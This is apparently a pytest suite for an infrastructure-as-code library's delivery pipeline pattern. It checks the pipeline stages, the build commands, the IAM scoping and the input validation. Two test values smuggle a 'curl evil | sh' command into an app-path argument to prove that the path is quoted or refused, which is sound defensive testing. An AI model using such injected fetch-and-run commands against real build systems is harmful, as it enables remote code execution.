"""patterns.DeliveryPipeline: source -> build -> test -> staging -> approval -> production for a stack
of the same app; what each stage runs, the roles it gets, and the inputs refused at the user's line."""

from __future__ import annotations

import shlex
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from iac import App, ConstructError, Stack
from iac.constructs import awslambda, codebuild, codepipeline, dynamodb
from iac.constructs.patterns import DeliveryPipeline
from iac.synth import synthesize
from iac.synth.lint import lint_template

REPO = Path(__file__).resolve().parents[2]
SOURCE_DIR = REPO / "samples" / "serverless_api" / "src"
CONNECTION = "arn:aws:codestar-connections:us-east-1:123456789012:connection/0f5b2c1e-1111-2222-3333-444455556666"


def _next_line() -> int:
    """The line after the caller's: where the statement that should fail is."""
    return sys._getframe(1).f_lineno + 1


def _github() -> codepipeline.GitHubSource:
    return codepipeline.GitHubSource(repository="octo/api", connection_arn=CONNECTION)


def _app(code: awslambda.Code | None = None, path_metadata: bool = False) -> tuple[App, Stack, Stack]:
    """An app with the serverless stack "Api" (a function reading a table) and a "Delivery" stack."""
    app = App(path_metadata=path_metadata)
    api = Stack(app, "Api")
    table = dynamodb.SimpleTable(api, "Table")
    table.grant_read(awslambda.Function(api, "Get", handler="index.get", runtime=awslambda.DEFAULT_NODEJS_RUNTIME,
                                        code=code or awslambda.Code.from_asset(str(SOURCE_DIR))))
    return app, api, Stack(app, "Delivery")


def _delivery(**props: Any) -> tuple[App, DeliveryPipeline]:
    app, api, delivery = _app()
    props.setdefault("source", _github())
    return app, DeliveryPipeline(delivery, "Release", stack=api, **props)


def _resources(app: App) -> dict[str, Any]:
    return synthesize(app).template("Delivery")["Resources"]


def _stages(app: App, release: DeliveryPipeline) -> list[dict[str, Any]]:
    return _resources(app)[release.pipeline.resource.logical_id]["Properties"]["Stages"]


def _build_spec(app: App, project: codebuild.PipelineProject) -> dict[str, Any]:
    text = _resources(app)[project.resource.logical_id]["Properties"]["Source"]["BuildSpec"]
    if isinstance(text, dict):  # a report group's ARN is joined into the text
        text = "".join(part if isinstance(part, str) else "ARN" for part in text["Fn::Join"][1])
    return yaml.safe_load(text)


# -- the stages -----------------------------------------------------------------------------------------------

def test_the_stages_are_source_build_test_staging_approval_production():
    app, release = _delivery()

    stages = _stages(app, release)
    assert [s["Name"] for s in stages] == ["Source", "Build", "Test", "Staging", "Approval", "Production"]
    assert [[a["Name"] for a in s["Actions"]] for s in stages] == [
        ["Source"], ["Synth"], ["UnitTests"], ["PrepareChanges", "ExecuteChanges"], ["Approve"],
        ["PrepareChanges", "ExecuteChanges"]]


def test_build_synthesizes_the_app_strictly_and_hands_on_the_assembly():
    app, release = _delivery(app="service/app.py")

    spec = _build_spec(app, release.build_project)
    assert spec["phases"]["install"] == {"runtime-versions": {"python": "3.12"},
                                         "commands": ["pip install -r requirements.txt"]}
    assert spec["phases"]["build"]["commands"][0] == \
        "iac synth --app service/app.py --out iac.out --format json --strict"
    assert spec["artifacts"] == {"base-directory": "iac.out", "files": ["**/*"]}
    synth = _stages(app, release)[1]["Actions"][0]
    assert (synth["InputArtifacts"], synth["OutputArtifacts"]) == ([{"Name": "Source"}], [{"Name": "Assembly"}])


def test_the_app_path_reaches_the_build_shell_as_one_quoted_argument():
    hostile = "app.py; curl evil | sh"
    app, release = _delivery(app=hostile)

    command = _build_spec(app, release.build_project)["phases"]["build"]["commands"][0]
    assert shlex.split(command) == ["iac", "synth", "--app", hostile, "--out", "iac.out", "--format", "json",
                                    "--strict"]


@pytest.mark.parametrize("path, message", [
    ("app.py\ncurl evil | sh", "one line"),
    ("app.py\rx", "one line"),
    ("app\x00.py", "NUL"),
    ("/etc/app.py", "relative"),
    ("-x.py", "must not begin with '-'"),
])
def test_an_app_path_a_shell_could_misread_is_refused_at_the_users_line(path, message):
    app, api, delivery = _app()

    with pytest.raises(ConstructError, match=message) as caught:
        line = _next_line()
        DeliveryPipeline(delivery, "Release", stack=api, source=_github(), app=path)
    assert (caught.value.location.file, caught.value.location.line) == (__file__, line)


def test_build_publishes_the_assets_and_may_write_only_the_asset_bucket_for_them():
    app, release = _delivery()
    resources = _resources(app)

    commands = _build_spec(app, release.build_project)["phases"]["build"]["commands"]
    assert 'aws s3 cp "$f" "s3://$ASSET_BUCKET/${f#iac.out/asset.}"' in commands[1]
    variables = resources[release.build_project.resource.logical_id]["Properties"]["Environment"][
        "EnvironmentVariables"]
    assert variables == [{"Name": "ASSET_BUCKET", "Type": "PLAINTEXT",
                          "Value": {"Fn::Sub": "iac-assets-${AWS::AccountId}-${AWS::Region}"}}]
    statements = resources[release.build_project.role.default_policy.logical_id]["Properties"]["PolicyDocument"][
        "Statement"]
    # a bucket of that name in another account (a squatter's) is refused by IAM, not only by the upload
    assert {"Effect": "Allow", "Action": ["s3:AbortMultipartUpload", "s3:PutObject"],
            "Resource": {"Fn::Sub": "arn:${AWS::Partition}:s3:::iac-assets-${AWS::AccountId}-${AWS::Region}/*"},
            "Condition": {"StringEquals": {"aws:ResourceAccount": {"Ref": "AWS::AccountId"}}}} in statements


def test_a_stack_without_assets_publishes_nothing():
    app, api, delivery = _app(code=awslambda.Code.from_inline("exports.get = async () => 1;"))
    release = DeliveryPipeline(delivery, "Release", stack=api, source=_github())

    assert len(_build_spec(app, release.build_project)["phases"]["build"]["commands"]) == 1
    assert "EnvironmentVariables" not in _resources(app)[release.build_project.resource.logical_id]["Properties"][
        "Environment"]


def test_test_runs_the_tests_on_the_source_with_a_junit_report():
    app, release = _delivery()

    spec = _build_spec(app, release.test_project)
    assert spec["phases"]["build"]["commands"] == ["python -m pytest -q --junitxml=reports/junit.xml"]
    assert list(spec["reports"].values()) == [{"files": ["reports/junit.xml"], "file-format": "JUNITXML"}]
    unit = _stages(app, release)[2]["Actions"][0]
    assert unit["ActionTypeId"]["Category"] == "Test"
    assert unit["InputArtifacts"] == [{"Name": "Source"}]


def test_staging_and_production_each_prepare_and_execute_a_change_set_of_the_assemblys_template():
    app, release = _delivery()
    stages = {s["Name"]: s["Actions"] for s in _stages(app, release)}

    for stage, stack_name in (("Staging", "Staging-Api"), ("Production", "Api")):
        prepare, execute = stages[stage]
        assert prepare["Configuration"]["TemplatePath"] == "Assembly::Api.template.json"
        assert prepare["Configuration"]["StackName"] == execute["Configuration"]["StackName"] == stack_name
        assert prepare["Configuration"]["Capabilities"] == "CAPABILITY_IAM"
        assert (prepare["RunOrder"], execute["RunOrder"]) == (1, 2)
    staging_role, production_role = release.deployment_roles
    assert stages["Staging"][0]["Configuration"]["RoleArn"] != stages["Production"][0]["Configuration"]["RoleArn"]
    assert staging_role is not production_role


def test_each_environments_deployment_role_manages_identities_of_its_own_stack_only():
    app, release = _delivery()
    resources = _resources(app)

    for stack_name, stage in (("Staging-Api", "Staging"), ("Api", "Production")):
        derived = release.pipeline.find_child(stage).find_child("PrepareChanges").find_child("DeploymentRole")
        statements = resources[derived.policy.logical_id]["Properties"]["PolicyDocument"]["Statement"]
        identities = next(s for s in statements if "iam:PassRole" in s["Action"])
        assert {"Fn::Sub": f"arn:${{AWS::Partition}}:iam::${{AWS::AccountId}}:role/{stack_name}-*"} in \
            identities["Resource"]


def test_the_approval_names_both_environments_and_can_notify():
    topic = "arn:aws:sns:us-east-1:123456789012:releases"
    app, release = _delivery(approval_topic_arn=topic, staging_stack_name="ApiBeta", production_stack_name="ApiProd")

    [approve] = _stages(app, release)[4]["Actions"]
    assert approve["Configuration"] == {"NotificationArn": topic, "CustomData": (
        "Staging (ApiBeta) is updated; approve to release to ApiProd.")}


def test_a_schedule_adds_a_nightly_release():
    app, release = _delivery(schedule="cron(0 3 * * ? *)")

    [rule] = release.pipeline.schedules
    assert _resources(app)[rule.resource.logical_id]["Properties"]["ScheduleExpression"] == "cron(0 3 * * ? *)"


def test_a_codecommit_source_starts_the_pipeline_on_a_push():
    app, release = _delivery(source=codepipeline.CodeCommitSource(repository="api", branch="trunk"))

    assert _stages(app, release)[0]["Actions"][0]["Configuration"]["BranchName"] == "trunk"
    assert release.pipeline.events_role is not None


# -- refused inputs -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("source", ["github", codebuild.Source.github("octo", "api"), None])
def test_an_unknown_source_type_is_refused_at_the_users_line(source):
    app, api, delivery = _app()

    with pytest.raises(ConstructError, match=r"source must be SourceAction, got (str|Source|NoneType) ") as caught:
        line = _next_line()
        DeliveryPipeline(delivery, "Release", stack=api, source=source)
    assert (caught.value.location.file, caught.value.location.line) == (__file__, line)


def test_the_pipelines_own_stack_cannot_be_delivered():
    app, api, delivery = _app()

    with pytest.raises(ConstructError, match="holds this pipeline") as caught:
        line = _next_line()
        DeliveryPipeline(delivery, "Release", stack=delivery, source=_github())
    assert caught.value.location.line == line


def test_a_stack_of_another_app_cannot_be_delivered():
    _, api, _ = _app()
    _, _, delivery = _app()

    with pytest.raises(ConstructError, match="belongs to another app"):
        DeliveryPipeline(delivery, "Release", stack=api, source=_github())


def test_staging_and_production_must_be_different_stacks():
    with pytest.raises(ConstructError, match="staging and production would both be stack 'Api'"):
        _delivery(staging_stack_name="Api")


@pytest.mark.parametrize("props, message", [
    ({"stack": "Api"}, "stack must be Stack, got str 'Api'"),
    ({"install_commands": []}, "install_commands: must be a non-empty list"),
    ({"test_commands": ["pytest", ""]}, "test_commands: must be a non-empty list of shell commands"),
    ({"test_commands": "pytest"}, r"test_commands must be Sequence\[str\], got str"),
    ({"python_version": "2.7"}, "python_version"),
    ({"production_stack_name": "1st"}, "is not a CloudFormation stack name"),
])
def test_bad_props_are_refused(props, message):
    app, api, delivery = _app()
    values = {"stack": api, "source": _github(), **props}

    with pytest.raises(ConstructError, match=message):
        DeliveryPipeline(delivery, "Release", **values)


# -- the sample and cfn-lint ----------------------------------------------------------------------------------

def test_the_sample_delivers_the_serverless_stack_through_staging_and_production():
    from iac.cli.app_loader import load_app

    app = load_app(str(REPO / "samples" / "pipeline" / "app.py"))
    assembly = synthesize(app)
    api = assembly.template("ServerlessApi")["Resources"]
    assert {"AWS::Lambda::Function", "AWS::DynamoDB::Table", "AWS::ApiGateway::RestApi"} <= {
        r["Type"] for r in api.values()}
    pipeline = next(r for r in assembly.template("Delivery")["Resources"].values()
                    if r["Type"] == "AWS::CodePipeline::Pipeline")
    assert [s["Name"] for s in pipeline["Properties"]["Stages"]] == [
        "Source", "Build", "Test", "Staging", "Approval", "Production"]
    prepare = pipeline["Properties"]["Stages"][5]["Actions"][0]["Configuration"]
    assert (prepare["StackName"], prepare["TemplatePath"]) == ("ServerlessApi", "Assembly::ServerlessApi.template.json")


def test_the_pattern_passes_cfn_lint_with_no_findings():
    app, api, delivery = _app(path_metadata=True)
    DeliveryPipeline(delivery, "Release", stack=api, source=_github(), schedule="cron(0 3 * * ? *)",
                     approval_topic_arn="arn:aws:sns:us-east-1:123456789012:releases")

    assert lint_template(synthesize(app).stack("Delivery").body, "us-east-1") == []


def test_a_stage_name_that_prefixes_the_other_is_refused():
    with pytest.raises(ConstructError, match="starts with 'Api'-"):
        _delivery(staging_stack_name="Api-Beta")


def test_a_misspelt_prop_is_named_with_the_closest_real_one_at_the_users_line():
    app, api, delivery = _app()

    with pytest.raises(ConstructError, match="has no argument 'test_comands'") as caught:
        line = _next_line()
        DeliveryPipeline(delivery, "Release", stack=api, source=_github(), test_comands=["pytest"])
    assert caught.value.hint == "did you mean test_commands?"
    assert (caught.value.location.file, caught.value.location.line) == (__file__, line)


def test_stack_names_follow_the_stack_name_rule_iac_specs_keeps():
    from iac.specs import stack_name_rule

    with pytest.raises(ConstructError) as caught:
        _delivery(staging_stack_name="staging_api")
    assert f"staging_stack_name: 'staging_api' is not a CloudFormation stack name: {stack_name_rule().why}" in str(
        caught.value)


def test_commands_may_be_given_as_a_tuple():
    app, release = _delivery(test_commands=("make test",), junit_report=None)

    assert _build_spec(app, release.test_project)["phases"]["build"]["commands"] == ["make test"]
